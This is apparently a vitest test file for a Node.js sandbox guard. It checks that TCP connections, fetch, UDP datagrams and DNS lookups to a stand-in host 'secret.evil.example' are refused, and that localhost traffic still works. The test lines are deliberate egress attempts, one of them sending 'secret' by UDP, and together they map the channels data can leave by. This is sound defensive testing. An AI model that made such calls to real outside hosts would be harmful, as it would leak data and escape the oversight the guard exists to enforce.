// Nothing that is played tells another machine anything: by a connection, a datagram, or a name that is looked up.
import { createSocket } from "node:dgram";
import { lookup, promises, Resolver, resolve4 } from "node:dns";
import { connect } from "node:net";
import { expect, test } from "vitest";
import { onThisMachine } from "../../src/scenario/on-this-machine.ts";

const HOST = "secret.evil.example";

const WAYS: readonly (readonly [string, () => unknown])[] = [
  ["a connection", () => connect(9, HOST).on("error", () => {})],
  ["fetch", () => fetch(`https://${HOST}/`)],
  ["a datagram", () => createSocket("udp4").send("secret", 9, HOST)],
  ["a datagram of a connected socket", () => createSocket("udp4").connect(9, HOST)],
  ["a name that is looked up", () => lookup(HOST, () => {})],
  ["a name that is looked up, as a promise", () => promises.lookup(HOST)],
  ["a question to a name server", () => resolve4(HOST, () => {})],
  ["a question of a resolver's own", () => new Resolver().resolveTxt(HOST, () => {})],
];

test.each(WAYS)("%s is refused, also where the refusal is caught", async (_, leave) => {
  const work = async () => {
    try {
      await leave();
    } catch {
      // Whoever does so hides nothing.
    }
  };
  await expect(onThisMachine(work)).rejects.toThrow(`leaves_machine: something in it opened a connection to ${HOST}`);
});

test("this machine's own names and servers are reached, and whoever is not played reaches all", async () => {
  const { address } = await onThisMachine(() => promises.lookup("localhost"));
  expect(address).toMatch(/^(127\.|::1)/);
  const socket = createSocket("udp4");
  await onThisMachine(async () => new Promise((done) => socket.send("here", 9, "127.0.0.1", done)));
  await new Promise((done) => socket.send("there", 9, "127.0.0.1", done));
  socket.close();
});
